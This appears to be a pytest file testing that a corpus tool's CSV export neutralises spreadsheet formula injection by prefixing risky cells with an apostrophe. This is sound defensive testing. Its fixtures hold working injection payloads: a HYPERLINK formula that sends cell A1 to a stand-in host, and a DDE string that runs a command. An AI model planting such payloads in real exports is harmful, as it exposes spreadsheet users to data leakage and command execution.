"""Issue 13, item 10: `corpus export --format csv` writes formula-like text as text.

Document text that starts with =, +, - or @ (or a tab or carriage return) is a formula
to Excel, LibreOffice and Google Sheets; the CSV cell gets a leading apostrophe.
"""

from __future__ import annotations

import csv
import dataclasses
from pathlib import Path

import pandas as pd
import pytest
from factories import make_doc
from hostile_cases import run_cli

from pipeline.corpus.store import Store

# Paragraph texts a hostile (or merely odd) document could hold, each run as a formula.
FORMULAS = [
    '=HYPERLINK("http://example.invalid/?"&A1, "click")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]
PLAIN = "Decides to remain seized of the matter."


@pytest.fixture()
def db(tmp_path: Path) -> Path:
    path = tmp_path / "corpus.db"
    doc = make_doc([], [PLAIN, *FORMULAS], symbol="=cmd|' /C calc'!A0")
    doc = dataclasses.replace(doc, title="@title", sha256="1", pages=2, session=-1)
    with Store(path) as store:
        store.write_document("a.txt", doc)
        store.write_failure("=bad.txt", "2", "-not a PDF")
    return path


def _rows(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8", newline="") as fp:
        return list(csv.DictReader(fp))


def test_csv_cells_that_look_like_formulas_are_text(db: Path, tmp_path: Path) -> None:
    out = tmp_path / "csv"
    run = run_cli(
        ["corpus", "export", "--db", str(db), "--format", "csv", "--out", str(out)], tmp_path
    )
    assert run.code == 0, run.stderr
    paragraphs = _rows(out / "paragraphs.csv")
    # issue 25: a carriage return is a control character: one line ending (CR -> LF)
    shown = [text.replace("\r", "\n") for text in FORMULAS]
    assert [row["text"] for row in paragraphs] == [PLAIN] + ["'" + text for text in shown]
    assert {row["page"] for row in paragraphs} == {"1"}  # numbers are no text
    (document,) = _rows(out / "documents.csv")
    assert (document["symbol"], document["title"]) == ("'=cmd|' /C calc'!A0", "'@title")
    assert document["session"] == "-1"  # a number, even a negative one, stays a number
    (failure,) = _rows(out / "failures.csv")
    assert (failure["path"], failure["reason"]) == ("'=bad.txt", "'-not a PDF")
    # No cell of any table starts a formula.
    for table in out.glob("*.csv"):
        for row in _rows(table):
            for value in row.values():
                assert not value.startswith(("=", "+", "@", "\t", "\r")), (table.name, value)


def test_parquet_keeps_the_text(db: Path, tmp_path: Path) -> None:
    out = tmp_path / "parquet"
    run = run_cli(
        ["corpus", "export", "--db", str(db), "--format", "parquet", "--out", str(out)], tmp_path
    )
    assert run.code == 0, run.stderr
    texts = list(pd.read_parquet(out / "paragraphs.parquet")["text"])
    assert texts == [PLAIN, *FORMULAS]
